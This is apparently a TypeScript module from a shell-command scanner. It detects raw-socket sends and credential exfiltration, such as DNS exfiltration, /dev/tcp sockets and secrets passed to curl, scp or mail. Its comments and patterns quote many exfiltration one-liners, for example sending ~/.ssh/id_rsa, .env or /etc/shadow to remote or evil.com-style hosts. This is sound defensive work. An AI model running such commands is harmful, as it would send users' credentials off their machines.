import {
  type Analysis,
  argTexts,
  type Cmd,
  type Hit,
  isSink,
  mentionsSecret,
  NET_TOOLS,
  namesRemoteHost,
  reachesNetwork,
  readsSecret,
  writeTargets,
} from "../facts.js";
import type { Word } from "../words.js";

const LOOPBACK = /^(localhost|127(\.\d+){3}|::1|\[::1\])$/i;

/**
 * Programs that never open a connection: what they are handed stays on the machine
 * (`ssh-keygen -C me@example.com -f ~/.ssh/id_work`, whose comment only looks like a host).
 */
const LOCAL_ONLY = new Set([
  "ssh-keygen",
  "ssh-add",
  "chmod",
  "chown",
  "chgrp",
  "ls",
  "stat",
  "touch",
  "mkdir",
  "wc",
  "file",
  "du",
]);

/**
 * shell.raw-socket-send: output of a command piped (or process-substituted) into a raw
 * socket tool (nc, ncat, socat, telnet) toward a host that is not loopback: an exfiltration
 * channel no build step needs. `echo PING | nc localhost 6379` passes.
 */
export function rawSocketSend(a: Analysis, hit: Hit): boolean {
  for (const { p, stages } of a.pipes) {
    for (let i = 1; i < stages.length; i++)
      for (const c of stages[i] ?? [])
        if (NET_TOOLS.has(c.r.name) && c.r.name !== "openssl" && remote(argTexts(c.r)))
          return hit("shell.raw-socket-send", p.raw);
  }
  for (const c of a.cmds)
    for (const w of c.sc.words)
      if (w.raw.startsWith(">(") && /\b(nc|ncat|netcat|socat|telnet)\b/.test(w.raw))
        return hit("shell.raw-socket-send", w.raw);
  return false;
}

/** A URL or host name word: `https://…`, `x.evil.com`, `$(id).evil.com`. */
const DESTINATION = /^(?:[a-z][\w+.-]*:\/\/|[^\s/=]*\.[a-z]{2,}(?:[:/]|$))/i;
/** The host part of such a word holds a substitution (`$(whoami).x.com`, `http://`id`.x/`). */
const HOST_SUBST = /^(?:[a-z][\w+.-]*:\/\/)?[^/\s]*(?:\$\([^()]*\)|`[^`]*`)[\w-]*\.[\w.-]*[a-z]/i;
const INNER = /\$\(([^()]*)\)|`([^`]*)`/g;
/** Commands whose output tells who and where the machine is, or what it holds. */
const RECON =
  /^\s*(?:[\w/]*\/)?(?:id|whoami|hostname|uname|env|printenv|ifconfig|ip|ls|pwd|cat|base64|groups|w|last)\b/;

/**
 * Output of a command put into where a network command sends its request: the host name
 * (DNS exfiltration: `ping $(whoami).x.com`, `dig `id`.x.net`) or a URL's path and query
 * when the output is an identity, listing or file (`curl https://x.com/$(id|base64)`).
 * `curl -H "Authorization: Bearer $(cat token)" https://api…` passes: that is a header.
 */
function outputInDestination(c: Cmd): string | undefined {
  if (!namesRemoteHost(c) && !RESOLVES.has(c.r.name)) return undefined;
  for (const w of c.r.args) {
    if (!w.subst) continue;
    const raw = w.raw.replace(/^["']/, "");
    if (!DESTINATION.test(raw) && !HOST_SUBST.test(raw)) continue;
    if (HOST_SUBST.test(raw)) return w.raw;
    for (const m of raw.matchAll(INNER)) {
      const inner = m[1] ?? m[2] ?? "";
      if (RECON.test(inner) || mentionsSecret(inner)) return w.raw;
    }
  }
  return undefined;
}

/**
 * Programs that look up every host operand in DNS: a substitution in a dotted name they are
 * given leaves through the resolver whatever its top-level domain (`dig $(whoami).x.example`).
 */
const RESOLVES = new Set(
  "dig nslookup host drill ping ping6 traceroute tracepath mtr whois getent".split(" "),
);

const DEV_NET = /^\/dev\/(?:tcp|udp)\/([^/\s]+)\//;

function opensRemoteSocket(a: Analysis): boolean {
  for (const c of a.cmds) {
    if (NET_TOOLS.has(c.r.name) && c.r.name !== "openssl" && remote(argTexts(c.r))) return true;
    for (const r of c.sc.redirects) {
      const m = DEV_NET.exec(r.target?.text ?? "");
      if (m && !LOOPBACK.test(m[1] as string)) return true;
    }
  }
  return false;
}

/** A network command whose arguments come from its input: through xargs or a variable. */
const carriesInput = (c: Cmd) =>
  reachesNetwork(c) && (c.r.wrappers.includes("xargs") || c.r.args.some((w) => w.vars.length > 0));

/**
 * Options whose value is the client's own TLS or SSH material, used to authenticate and never
 * sent (`curl --cert client.pem --key client.key https://api…`, `ssh -i ~/.ssh/deploy host`):
 * per program. ssh's `-o IdentityFile=…` is read in secretBesideTls.
 */
const TLS_MATERIAL = new Map<string, ReadonlySet<string>>([
  [
    "curl",
    new Set(
      "--cert -E --key --cacert --capath --crlfile --pinnedpubkey --proxy-cert --proxy-key --proxy-cacert --proxy-capath".split(
        " ",
      ),
    ),
  ],
  [
    "wget",
    new Set("--certificate --private-key --ca-certificate --ca-directory --crl-file".split(" ")),
  ],
  ["ssh", new Set(["-i", "-F"])],
  ["scp", new Set(["-i", "-F"])],
  ["sftp", new Set(["-i", "-F"])],
]);

/** ssh's `-o` settings that name the client's own key or known hosts files. */
const SSH_KEY_SETTING =
  /^(?:IdentityFile|CertificateFile|UserKnownHostsFile|GlobalKnownHostsFile)[= ]/i;

/** A secret the command names other than as the value of a TLS option (see TLS_MATERIAL). */
function secretBesideTls(c: Cmd): string | undefined {
  const options = TLS_MATERIAL.get(c.r.name) as ReadonlySet<string>;
  const args = c.r.args;
  for (let i = 0; i < args.length; i++) {
    const w = args[i] as (typeof args)[number];
    const t = w.text ?? w.raw;
    if (options.has(t)) {
      i++; // its value
      continue;
    }
    if (t === "-o" && SSH_KEY_SETTING.test(args[i + 1]?.text ?? "")) {
      i++;
      continue;
    }
    const eq = t.indexOf("=");
    if (eq > 0 && options.has(t.slice(0, eq))) continue;
    const s = mentionsSecret(w.raw);
    if (s) return s;
  }
  for (const r of c.sc.redirects) {
    const s =
      r.op.startsWith("<") && r.op !== "<<" ? mentionsSecret(r.target?.raw ?? "") : undefined;
    if (s) return s;
  }
  return undefined;
}

/** The first operand that names a host is not a loopback address. */
function remote(args: readonly string[]): boolean {
  const host = args.find((x) => !x.startsWith("-") && !/^\d+$/.test(x));
  return host !== undefined && !LOOPBACK.test(host.replace(/^tcp[46]?[:-]|:\d+$/gi, ""));
}

/**
 * shell.credential-exfil: credentials or keys sent off the machine — a sending command
 * (curl upload/data, nc, mail, scp/rsync to a host, ssh) whose own text names a secret
 * (`curl -d @.env`, `mail … < ~/.aws/credentials`, `curl -d "$(cat ~/.ssh/id_rsa)"`), or a
 * pipeline where a stage reads a secret and a later stage sends. Reading a key locally
 * is left to `path.sensitive`.
 */
export function credentialExfil(a: Analysis, hit: Hit): boolean {
  for (const c of a.cmds) {
    // Any program handed a secret and a remote host sends one to the other (`lp .env -h
    // 10.0.0.9`, `finger "$(cat /etc/shadow)"@host`, a perl one-liner opening a socket).
    const sink = isSink(c);
    // openssl's local commands name hosts only in certificate subjects (`-subj /CN=api.x.com`).
    if (LOCAL_ONLY.has(c.r.name) || (!sink && (c.r.name === "openssl" || !namesRemoteHost(c))))
      continue;
    const secret = TLS_MATERIAL.has(c.r.name)
      ? secretBesideTls(c)
      : (mentionsSecret(c.sc.raw) ?? readsSecret(c));
    if (secret) return hit("shell.credential-exfil", c.sc.raw);
    // What a substitution in its words reads is sent as well (`curl -d "$(env)" https://…`,
    // `curl -d "$(printenv)" …`): the commands inside are in the analysis too.
    if (substitutesSecret(a, c)) return hit("shell.credential-exfil", c.sc.raw);
  }
  for (const c of a.cmds) {
    const leak = outputInDestination(c);
    if (leak) return hit("shell.credential-exfil", leak);
  }
  // A script that opens a raw connection to a remote host (`exec 3<>/dev/tcp/h/80`, `ztcp h
  // 4444`, `nc h 4444`) and reads a secret anywhere has what it needs to send it: commands
  // write to the socket through a descriptor (`cat .env >&3`, `echo "$(<.env)" >&$REPLY`).
  if (opensRemoteSocket(a))
    for (const c of a.cmds) {
      const secret = readsSecret(c);
      if (secret) return hit("shell.credential-exfil", c.sc.raw);
    }
  // Staged files matter only when something sends: most command lines have no sink.
  const sends = a.cmds.some((c) => isSink(c) || namesRemoteHost(c));
  const staged = sends ? stagedSecrets(a) : [];
  if (staged.length > 0)
    for (const c of a.cmds) {
      const files = staged.filter((s) => s.by !== c).map((s) => s.file);
      if ((isSink(c) || namesRemoteHost(c)) && c.sc.words.some((w) => namesFile(w, files)))
        return hit("shell.credential-exfil", c.sc.raw);
    }
  for (const { p, stages } of a.pipes) {
    let secret: string | undefined;
    for (const stage of stages) {
      // A later stage sends what it reads, or turns it into a request (`… | xargs -I{} curl
      // https://x/{}`, `… | while read l; do dig $l.x.com; done`).
      if (secret && stage.some((c) => isSink(c) || carriesInput(c)))
        return hit("shell.credential-exfil", p.raw);
      for (const c of stage) secret ??= readsSecret(c);
    }
  }
  return false;
}

/** A command inside one of `c`'s substituted words reads a secret (an env dump, a key). */
function substitutesSecret(a: Analysis, c: Cmd): boolean {
  if (!c.r.args.some((w) => w.subst)) return false;
  for (const d of a.cmds)
    if (
      d !== c &&
      readsSecret(d) !== undefined &&
      c.r.args.some((w) => w.subst && w.raw.includes(d.sc.raw))
    )
      return true;
  return false;
}

/**
 * Files a secret is written to before it leaves (`env > /tmp/e && curl -T /tmp/e ftp://h/`,
 * `printenv | gzip > e.gz; scp e.gz h:`): what a secret-reading command, or a pipeline fed by
 * one, writes.
 */
function stagedSecrets(a: Analysis): Array<{ file: string; by: Cmd }> {
  const out: Array<{ file: string; by: Cmd }> = [];
  const add = (c: Cmd) => {
    // Local files only: a remote destination (`host:/tmp/`) is the send itself.
    for (const file of writeTargets(c))
      if (file !== "" && !/^[^/]*:/.test(file) && !/^\/dev\/(?:null|std)/.test(file))
        out.push({ file, by: c });
  };
  for (const c of a.cmds) if (readsSecret(c)) add(c);
  for (const { stages } of a.pipes) {
    let secret = false;
    for (const stage of stages)
      for (const c of stage) {
        if (secret) add(c);
        secret ||= readsSecret(c) !== undefined;
      }
  }
  return out;
}

/** A word naming one of `files` (`/tmp/e`, `@/tmp/e`, `--upload-file=/tmp/e`). */
const namesFile = (w: Word, files: readonly string[]) => {
  const t = w.text ?? w.raw;
  return files.some((f) => t === f || t.endsWith(`@${f}`) || t.endsWith(`=${f}`));
};
